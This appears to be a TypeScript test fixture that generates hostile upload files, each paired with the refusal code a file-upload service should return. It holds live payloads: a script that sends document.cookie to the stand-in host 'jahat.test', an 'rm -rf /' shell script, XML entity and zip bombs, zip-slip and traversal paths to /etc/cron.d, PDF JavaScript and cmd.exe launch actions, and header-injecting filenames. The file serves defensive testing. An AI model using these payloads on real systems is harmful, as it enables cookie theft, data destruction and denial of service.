import { deflateSync, crc32 } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';
import type { ProblemCode } from '../../http/messages/messages.ts';

/** A file that somebody sends who means no good, with the refusal it is owed. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly content: Uint8Array;
  readonly refusal: readonly [status: number, code: ProblemCode];
}

const text = (content: string): Uint8Array => new Uint8Array(Buffer.from(content, 'latin1'));
const join = (...parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));

const script = '<script>fetch("//jahat.test/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i} "${'&a;'.repeat(10)}">`).join('')}]><l>&a8;</l>`;

const types = {
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
};

/** A document as an office program packs it. */
export function office(kind: 'docx' | 'xlsx', more: Zippable = {}, body = '<document/>'): Uint8Array {
  const main = { docx: 'word/document.xml', xlsx: 'xl/workbook.xml' }[kind];
  const list = `<Types><Override PartName="/${main}" ContentType="${types[kind]}"/></Types>`;
  return zipSync({ '[Content_Types].xml': strToU8(list), [main]: strToU8(body), ...more });
}

function chunk(kind: string, data: Uint8Array): Uint8Array {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(named));
  return join(head, named, check);
}

const pngMark = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of that size in black and white whose pixels are all the same: a few bytes for each million. */
export function png(width: number, height: number, extra: Uint8Array = new Uint8Array()): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * Math.min(height, 2000)));
  return join(pngMark, chunk('IHDR', header), extra, chunk('IDAT', rows), chunk('IEND', new Uint8Array()));
}

export function textChunk(size: number): Uint8Array {
  return chunk('zTXt', join(text('Comment\0\0'), deflateSync(Buffer.alloc(size, 'A'))));
}

export async function jpeg(): Promise<Uint8Array> {
  const noise = sharp({
    create: {
      width: 640,
      height: 480,
      channels: 3,
      background: '#284',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  });
  return new Uint8Array(await noise.jpeg().toBuffer());
}

const pdf = (object: string) => text(`%PDF-1.7\n1 0 obj\n<< ${object} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);

/** Made afresh: nothing of the kind lies in the repository. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = await jpeg();
  const kind = [415, 'JENIS_BERKAS_DITOLAK'] as const;
  const lie = [415, 'ISI_BERKAS_BERBEDA'] as const;
  const broken = [422, 'BERKAS_RUSAK'] as const;
  const active = [422, 'BERKAS_BERSKRIP'] as const;
  const bomb = [422, 'ARSIP_BERBAHAYA'] as const;
  const vast = [422, 'GAMBAR_TERLALU_LUAS'] as const;
  const unreadable = [400, 'PERMINTAAN_TIDAK_TERBACA'] as const;
  const field = [422, 'VALIDASI_SALAH'] as const;
  const rows: readonly (readonly [string, string, Uint8Array, HostileFile['refusal']])[] = [
    ['a program named as a photo', 'foto.jpg', join(text('MZ\x90\0\x03\0\0\0'), new Uint8Array(500)), kind],
    ['a program named as a paper', 'laporan.pdf', join(text('\x7fELF\x02\x01\x01'), new Uint8Array(500)), kind],
    ['a shell script named as a photo', 'foto.png', text('#!/bin/sh\nrm -rf /\n'), lie],
    ['a page named as a photo', 'foto.jpg', text(`<!doctype html>${script}`), lie],
    ['a page', 'halaman.html', text(`<html>${script}</html>`), kind],
    ['a page named as a text', 'catatan.txt', text(`<!doctype html>${script}`), active],
    ['a script in a table', 'data.csv', text(`nama,unit\n${script},A-01\n`), active],
    ['a picture with a script', 'gambar.svg', text(svg), kind],
    ['a picture with a script named as a photo', 'gambar.png', text(`<?xml version="1.0"?>${svg}`), kind],
    ['a packed picture with a script', 'gambar.svgz', text('\x1f\x8b\x08\0'), kind],
    ['entities without end', 'catatan.txt', text(`<?xml version="1.0"?>${laughs}`), kind],
    ['an archive named as a document', 'surat.docx', zipSync({ 'jahat.exe': strToU8('MZ') }), kind],
    [
      'a document that unpacks to sixty megabytes',
      'bom.docx',
      office('docx', { 'word/a.bin': new Uint8Array(60_000_000) }),
      bomb,
    ],
    [
      'a workbook of six thousand parts',
      'bom.xlsx',
      office('xlsx', Object.fromEntries(Array.from({ length: 6000 }, (_, i) => [`xl/${i}.xml`, strToU8('')]))),
      bomb,
    ],
    [
      'a document that climbs out of its folder',
      'surat.docx',
      office('docx', { '../../etc/cron.d/jahat': strToU8('x') }),
      bomb,
    ],
    ['a document with entities without end', 'surat.docx', office('docx', {}, laughs), bomb],
    ['a document with macros', 'surat.docx', office('docx', { 'word/vbaProject.bin': strToU8('x') }), active],
    [
      'a document cut off',
      'surat.docx',
      office('docx', { 'word/a.xml': strToU8('a'.repeat(5000)) }).slice(0, -40),
      broken,
    ],
    ['a picture of 2.5 thousand million pixels', 'luas.png', png(50_000, 50_000), vast],
    ['a picture longer than any', 'panjang.png', png(1, 30_000), vast],
    ['a picture cut off', 'potong.png', png(300, 300).slice(0, 60), broken],
    ['a photo cut off', 'potong.jpg', photo.slice(0, photo.length / 3), broken],
    [
      'the beginning of a photo before a page',
      'foto.jpg',
      join(photo.slice(0, 20), text(`<html>${script}</html>`)),
      broken,
    ],
    ['an image that is a script as well', 'foto.jpg', text('GIF89a/*\0\0\0\0*/=1;alert(document.domain)//'), kind],
    ['a paper with a script', 'izin.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), active],
    ['a paper with a script in disguise', 'izin.pdf', pdf('/S /J#61vaScript /J#53 (app.alert(1))'), active],
    ['a paper that starts a program', 'izin.pdf', pdf('/S /Launch /F (cmd.exe)'), active],
    ['a paper that is a page as well', 'izin.pdf', pdf(`/X (${script})`), active],
    ['a text with null bytes', 'catatan.txt', text('isi\0\0tersembunyi'), lie],
    ['a photo named as a page', 'foto.jpg.html', photo, kind],
    ['a photo named as a program', 'foto.jpg.exe', photo, kind],
    ['a photo named as a paper', 'foto.pdf', photo, lie],
    ['a name that climbs', '../../etc/cron.d/jahat.txt', text('x'), field],
    ['a name of another system', 'C:\\Windows\\System32\\jahat.txt', text('x'), field],
    ['a name with a null byte', 'foto.jpg\0.exe', photo, unreadable],
    ['a name written backwards', 'laporan\u202Egpj.exe', text('MZ'), field],
    ['a name that breaks a header', 'foto.jpg\r\nSet-Cookie: imah_session=x', photo, field],
    ['a name that hides its end', `foto.jpg${'\u200B'.repeat(20)}.txt`, text('x'), field],
  ];
  return rows.map(([what, name, content, refusal]) => ({ what, name, content, refusal }));
}
